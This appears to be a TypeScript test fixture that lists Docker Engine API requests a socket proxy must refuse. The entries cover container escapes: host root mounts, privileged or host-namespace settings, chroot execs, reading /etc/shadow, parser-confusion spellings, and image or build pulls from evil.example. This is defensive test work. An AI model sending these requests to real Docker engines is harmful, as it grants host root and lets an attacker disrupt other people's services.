import { LIST } from '../../src/backups/sources/files-source';
import type { ContainerInspect, CreateRequest } from '../../src/domain/engine-inspect';

/** What is on an engine that is attacked through the socket proxy. */
export interface Attacked {
  /** Opened to updates, with nothing of the host but a folder of its own: its name, and the request that gives the same. */
  web: string;
  same: CreateRequest['body'];
  /** Opened to updates, and root on its host: it mounts `/` at `/host`. */
  agent: ContainerInspect;
  agentSame: CreateRequest['body'];
  /** Privileged, and not the business of diun-pilot. */
  root: ContainerInspect;
  /** Opened to updates, with the data root of the engine at `/engine` and `/run/engine`, which `GET /info` tells. */
  disk: ContainerInspect;
  /** An image of another repository, by its ID and its tag. */
  evil: string;
  evilTag: string;
}

export interface Attack {
  name: string;
  method: string;
  url: string;
  /** A text is sent as it is. */
  body?: object | string;
}

const V = '/v1.45';
const MARK = '0123456789';

/** Ways to `/` of the host, each a request of a process that took over diun-pilot. The last of a chain stands here: what leads to it is refused as well. */
export function rootAttacks(scene: Attacked): Attack[] {
  return [
    ...[...hostConfigs(scene), ...configs(scene), ...spellings(scene), ...oneOffs(scene), ...calls(scene)],
    ...onStrangers(scene),
  ];
}

const asNew = (name: string): string => `${V}/containers/create?name=${name}.diun-pilot-new-${MARK}`;

function hostConfigs({ web, same, root }: Attacked): Attack[] {
  const more: Record<string, unknown>[] = [
    { Binds: ['/:/host'] },
    { Binds: [...(same.HostConfig.Binds ?? []), '/etc/../:/host:ro'] },
    { Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] },
    {
      Mounts: [
        {
          Type: 'volume',
          Source: 'fresh',
          Target: '/host',
          VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } },
        },
      ],
    },
    { Mounts: [{ Type: 'volume', Source: 'of-another-container', Target: '/host' }] },
    { Mounts: [{ Type: 'image', Source: 'evil', Target: '/host' }] },
    { VolumesFrom: [root.Id] },
    { Privileged: true },
    { CapAdd: ['SYS_ADMIN'] },
    { CapAdd: ['DAC_READ_SEARCH'] },
    { Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] },
    { DeviceCgroupRules: ['b *:* rwm'] },
    { DeviceRequests: [{ Driver: '', Count: -1, Capabilities: [['gpu']] }] },
    { PidMode: 'host' },
    { PidMode: `container:${root.Id}` },
    { IpcMode: 'host' },
    { UTSMode: 'host' },
    { UsernsMode: 'host' },
    { CgroupnsMode: same.HostConfig['CgroupnsMode'] === 'host' ? 'private' : 'host' },
    { NetworkMode: 'host' },
    { NetworkMode: `container:${root.Id}` },
    { SecurityOpt: ['seccomp=unconfined', 'apparmor=unconfined'] },
    { SecurityOpt: ['systempaths=unconfined'] },
    { MaskedPaths: [] },
    { ReadonlyPaths: [] },
    { Runtime: 'another' },
    { CgroupParent: '/' },
    { Sysctls: { 'kernel.core_pattern': '|/evil' } },
    { VolumeDriver: 'another' },
    { LogConfig: { Type: 'fluentd', Config: { 'fluentd-address': 'unix:///var/run/docker.sock' } } },
    { PortBindings: { '22/tcp': [{ HostIp: '', HostPort: '22' }] } },
    { NotKnownYet: '/' },
    { PortBindings: { ...(same.HostConfig['PortBindings'] as object), '22/tcp': [{}] } },
    { PortBindings: { ...(same.HostConfig['PortBindings'] as object), '22/tcp': [] } },
    { PortBindings: { ...(same.HostConfig['PortBindings'] as object), '22/tcp': null } },
    { Tmpfs: { '/data': '' } },
    { Tmpfs: { '/data': null } },
    { Sysctls: { 'net.ipv4.ip_forward': '' } },
    { MaskedPaths: [''] },
    { ReadonlyPaths: [null] },
    { MaskedPaths: [null], ReadonlyPaths: [''] },
  ];
  return more.map((fields) => ({
    name: `HostConfig ${JSON.stringify(fields)}`,
    method: 'POST',
    url: asNew(web),
    body: { ...same, HostConfig: { ...same.HostConfig, ...fields } },
  }));
}

function configs({ web, same, agent, agentSame, evil }: Attacked): Attack[] {
  const more: Record<string, unknown>[] = [
    { Image: evil },
    { User: '0:0' },
    { Entrypoint: ['/bin/sh', '-c', 'id'] },
    { Cmd: ['/bin/sh', '-c', 'id'] },
    { Env: ['LD_PRELOAD=/data/evil.so'] },
    { Healthcheck: { Test: ['CMD-SHELL', 'id'] } },
    { Labels: { ...same.Labels, 'backup.kind': 'files', 'backup.paths': '/' } },
    { Labels: { ...same.Labels, 'update.probe': 'exec:/bin/sh -c id' } },
    { NetworkingConfig: { EndpointsConfig: { 'of-another-project': {} } } },
    { Memory: 1, Binds: ['/:/host'] },
    { ExposedPorts: { ...same.ExposedPorts, '22/tcp': {} } },
    { ExposedPorts: { ...same.ExposedPorts, '22/tcp': null } },
    { Volumes: { '/x': {} } },
    { Volumes: { '/x': null } },
    { NetworkingConfig: { EndpointsConfig: { victim_default: null } } },
    { NetworkingConfig: { EndpointsConfig: { victim_default: {} } } },
    { Healthcheck: { Test: [''] } },
    { Env: [...(same.Env ?? []), ''] },
  ];
  const agentName = agent.Name.slice(1);
  const ofAgent = { ...agentSame, Cmd: ['chroot', '/host', 'id'] };
  return [
    ...more.map((fields) => ({
      name: `the container with ${JSON.stringify(fields)}`,
      method: 'POST',
      url: asNew(web),
      body: { ...same, ...fields },
    })),
    { name: 'the agent with another command', method: 'POST', url: asNew(agentName), body: ofAgent },
    { name: 'the agent on another image', method: 'POST', url: asNew(agentName), body: { ...agentSame, Image: evil } },
    { name: 'the agent by the name of the other', method: 'POST', url: asNew(web), body: agentSame },
  ];
}

function spellings({ web, same }: Attacked): Attack[] {
  const HostConfig = same.HostConfig;
  const all = { ...same, HostConfig: { ...HostConfig, Binds: ['/:/host'] } };
  const twice = JSON.stringify(same).replace('"HostConfig":{', '"hostconfig":{"Binds":["/:/host"]},"HostConfig":{');
  const url = asNew(web);
  return [
    {
      name: 'binds for Binds',
      method: 'POST',
      url,
      body: { ...same, HostConfig: { ...HostConfig, binds: ['/:/host'] } },
    },
    { name: 'HOSTCONFIG next to HostConfig', method: 'POST', url, body: { ...same, HOSTCONFIG: all.HostConfig } },
    {
      name: 'Bind\u017f, which Go takes for Binds',
      method: 'POST',
      url,
      body: { ...same, HostConfig: { ...HostConfig, 'Bind\u017f': ['/:/host'] } },
    },
    { name: 'a key twice in two cases', method: 'POST', url, body: twice },
    ...nestedTwins({ HostConfig, same }).map(([name, body]) => ({ name, method: 'POST', url, body })),
    {
      name: 'a body of many levels',
      method: 'POST',
      url,
      body: `{"HostConfig":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
    },
    { name: 'a list of requests', method: 'POST', url, body: JSON.stringify([all]) },
    { name: 'no JSON', method: 'POST', url, body: `${JSON.stringify(same)}${JSON.stringify(all)}` },
    { name: 'two names', method: 'POST', url: `${url}&name=evil`, body: all },
    { name: 'a name of nobody', method: 'POST', url: `${V}/containers/create?name=evil`, body: all },
    { name: 'no name', method: 'POST', url: `${V}/containers/create`, body: all },
    { name: 'a double slash', method: 'POST', url: url.replace('/containers', '//containers'), body: all },
    { name: 'two dots', method: 'POST', url: url.replace('/containers', '/images/../containers'), body: all },
    { name: 'an encoded slash', method: 'POST', url: url.replace('/create', '%2fcreate'), body: all },
    { name: 'an old version', method: 'POST', url: url.replace(V, '/v1.24'), body: all },
    { name: 'a version to come', method: 'POST', url: url.replace(V, '/v1.99'), body: all },
  ];
}

/** Go takes the last of two keys that differ in case only, also where an empty value would be no difference. */
function nestedTwins({ HostConfig, same }: { HostConfig: object; same: Attacked['same'] }): [string, object][] {
  const bound = Object.entries((same.HostConfig['PortBindings'] ?? {}) as Record<string, object[]>);
  const PortBindings = Object.fromEntries(
    bound.map(([port, to]) => [port, to.map((one) => ({ ...one, hostip: '', HOSTPORT: '' }))]),
  );
  const Healthcheck = { Test: [], test: [], 'Te\u017ft': [] };
  return [
    ['ports on every address, by a second spelling', { ...same, HostConfig: { ...HostConfig, PortBindings } }],
    ['no limit of restarts', { ...same, HostConfig: { ...HostConfig, RestartPolicy: { Name: 'no', name: '' } } }],
    ['a health check in three spellings', { ...same, Healthcheck }],
    [
      'CapDrop and capdrop',
      { ...same, HostConfig: { ...HostConfig, CapDrop: HostConfig['CapDrop' as never], capdrop: [] } },
    ],
  ];
}

function oneOffs({ web, same, agent, root }: Attacked): Attack[] {
  const shape = (role: string, fields: object, body: object = {}, of = web): Attack => ({
    name: `a one-off of ${of} (${role}) with ${JSON.stringify({ ...fields, ...body })}`,
    method: 'POST',
    url: `${V}/containers/create?name=${of}.diun-pilot-${role}-${MARK}`,
    body: {
      ...{ Image: same.Image, Entrypoint: ['/bin/sh'], Cmd: ['-c', 'id'], Labels: {}, Healthcheck: { Test: ['NONE'] } },
      HostConfig: {
        ...{ NetworkMode: 'none', CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], RestartPolicy: { Name: 'no' } },
        ...fields,
      },
      ...body,
    },
  });
  const ofTrial = { Entrypoint: same.Entrypoint, Cmd: same.Cmd, Healthcheck: same.Healthcheck };
  return [
    shape('drill', { Binds: ['/:/host'] }),
    shape('drill', { SecurityOpt: [] }),
    shape('drill', { ReadonlyPaths: [] }),
    shape('drill', { MaskedPaths: [] }),
    shape('kept', { ReadonlyPaths: [] }, { Entrypoint: ['true'], Cmd: [] }),
    shape('drill', { MaskedPaths: [''], ReadonlyPaths: [''] }),
    shape('drill', { MaskedPaths: [null], ReadonlyPaths: [null] }),
    shape('kept', { MaskedPaths: [''], ReadonlyPaths: [''] }, { Entrypoint: ['true'], Cmd: [] }),
    shape('rehearsal', { MaskedPaths: [''] }),
    shape('rehearsal', { ReadonlyPaths: [''] }, ofTrial),
    shape('drill', {}, { NetworkingConfig: { EndpointsConfig: { victim_default: {} } } }),
    shape('drill', {}, { NetworkingConfig: { EndpointsConfig: { victim_default: null } } }),
    shape('rehearsal', {}, { NetworkingConfig: { EndpointsConfig: { victim_default: {} } } }),
    shape('drill', {}, { Volumes: { '/x': {} } }),
    shape('drill', { PortBindings: { '22/tcp': [{}] } }),
    shape('drill', { CapDrop: ['ALL', ''] }),
    shape('drill', { CapAdd: ['SYS_ADMIN'] }),
    shape('drill', {}, { Labels: { 'backup.kind': 'files' } }),
    // Orders to other tools that hold the socket: a scheduler runs them on the host or in any container.
    shape('drill', {}, { Labels: { 'ofelia.job-local.evil.command': 'id' } }),
    shape('rehearsal', {}, { Labels: { 'traefik.enable': 'true' } }),
    shape('rehearsal', { NetworkMode: `container:${root.Id}` }),
    shape('rehearsal', { Mounts: [{ Type: 'bind', Source: '/', Target: '/host', ReadOnly: true }] }),
    shape('rehearsal', { Binds: ['/:/host:ro'] }, {}, agent.Name.slice(1)),
    shape('restore', { Binds: ['/:/host'] }),
    shape('restore', { Binds: same.HostConfig.Binds ?? [] }),
    shape('restore', { Binds: ['/:/host'] }, {}, agent.Name.slice(1)),
    shape('kept', { Binds: ['/:/host'] }, { Entrypoint: ['true'], Cmd: [] }),
    shape('check', { Binds: ['/:/host'] }, { Cmd: ['nginx', '-t'] }),
    shape('check', { Binds: ['/:/host'] }, { Entrypoint: ['nginx'], Cmd: ['-t'] }),
    shape('check', {}, { Entrypoint: ['/bin/sh', '-c', 'id'], Cmd: ['nginx', '-t'] }),
    shape('old', { Binds: ['/:/host'] }),
  ];
}

function calls({ web, agent, root, evil }: Attacked): Attack[] {
  const of = (path: string, method = 'POST', body?: object): Attack => ({
    ...{ name: `${method} ${path} ${body === undefined ? '' : JSON.stringify(body)}`, method, url: `${V}${path}` },
    ...(body === undefined ? {} : { body }),
  });
  const Cmd = ['chroot', '/host', 'id'];
  const ofRoot = { User: '0', Env: ['LC_ALL=C'] };
  return [
    of(`/containers/${root.Id}/exec`, 'POST', { Cmd }),
    of(`/containers/${agent.Id}/exec`, 'POST', { Cmd }),
    of(`/containers/${web}/exec`, 'POST', { Cmd, Privileged: true }),
    of(`/containers/${web}/exec`, 'POST', { Cmd, privileged: true }),
    of(`/containers/${web}/exec`, 'POST', { Cmd, User: '0' }),
    of(`/containers/${web}/exec`, 'POST', { ...ofRoot, Cmd: ['sh', '-c', LIST, 'sh', '-delete'] }),
    of(`/containers/${web}/exec`, 'POST', { ...ofRoot, Cmd: ['sh', '-c', LIST, 'sh'] }),
    of(`/exec/${'e'.repeat(64)}/start`, 'POST', { Detach: false, Tty: false }),
    of(`/containers/${root.Id}/archive?path=/etc`, 'GET'),
    of(`/containers/${agent.Id}/archive?path=/host/etc/shadow`, 'GET'),
    of(`/containers/${agent.Id}/archive?path=/`, 'GET'),
    of(`/containers/${agent.Id}/archive?path=/&path=/tmp`, 'GET'),
    of(`/containers/${agent.Id}/archive?path=/host/root`, 'PUT'),
    of(`/containers/${root.Id}/archive?path=/`, 'PUT'),
    of(`/containers/${web}/update`, 'POST', { Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda' }] }),
    of(`/containers/${web}/update`, 'POST', { restartpolicy: {}, RestartPolicy: { Name: 'no' } }),
    of(`/containers/${root.Id}/rename?name=${web}.diun-pilot-old-${MARK}`),
    of(`/containers/${web}/rename?name=elsewhere`),
    of(`/containers/${web}/rename?name=0123456789ab_${web}`),
    of(`/containers/${web}/start`, 'POST', { HostConfig: { Binds: ['/:/host'] } }),
    of(`/containers/${root.Id}?force=true`, 'DELETE'),
    of(`/images/${evil}/tag?repo=${agent.Config.Image.split(':')[0]}&tag=latest`),
    of(`/images/create?fromImage=evil.example/root&tag=sha256:${'e'.repeat(64)}`),
    of(`/images/create?fromImage=evil.example/root&tag=latest`),
    of('/images/create?fromSrc=http://evil.example/root.tar&repo=web'),
    of(`/networks/bridge/connect`, 'POST', { Container: root.Id, EndpointConfig: {} }),
    of('/volumes/create', 'POST', { Name: 'x', Driver: 'local', DriverOpts: { o: 'bind', device: '/', type: 'none' } }),
    of('/networks/create', 'POST', { Name: 'x', Driver: 'macvlan', Options: { parent: 'eth0' } }),
    of('/build?remote=http://evil.example/x.git'),
    of('/images/load'),
    of(`/commit?container=${root.Id}`),
    of(`/containers/${root.Id}/attach?stream=1`),
    of('/services/create', 'POST', { Name: 'x' }),
    of('/plugins/pull?remote=evil'),
  ];
}

/** Acts on what is not the business of diun-pilot, each of which takes a service away, or the control that refuses the next act. */
function onStrangers({ web, root, disk, evil, evilTag }: Attacked): Attack[] {
  const of = (method: string, path: string, body?: object): Attack => ({
    ...{ name: `${method} ${path} ${JSON.stringify(body ?? {})}`, method, url: `${V}${path}` },
    ...(body === undefined ? {} : { body }),
  });
  const stranger = root.Name.slice(1);
  return [
    ...['start', 'stop', 'stop?t=0', 'restart', 'wait', 'kill', 'kill?signal=KILL'].map((act) =>
      of('POST', `/containers/${root.Id}/${act}`),
    ),
    of('POST', `/containers/${stranger}/stop`),
    of('POST', `/containers/${web}/kill?signal=KILL`),
    of('POST', `/containers/${root.Id}/update`, { RestartPolicy: { Name: 'no' } }),
    of('POST', `/containers/${root.Id}/rename?name=${stranger}.diun-pilot-old-${MARK}`),
    of('DELETE', `/containers/${root.Id}`),
    of('DELETE', `/images/${evil}`),
    of('DELETE', `/images/${evil.slice('sha256:'.length)}`),
    of('DELETE', `/images/${evilTag}`),
    of('POST', `/containers/${disk.Id}/exec`, { Cmd: ['ls', '/engine/containers'] }),
    of('GET', `/containers/${disk.Id}/archive?path=/engine/containers`),
    of('PUT', `/containers/${disk.Id}/archive?path=/engine`),
    // `/var/run` is a link to `/run` in the image.
    of('GET', `/containers/${disk.Id}/archive?path=/var/run/engine/containers`),
    of('GET', `/containers/${disk.Id}/archive?path=/var/run/`),
  ];
}
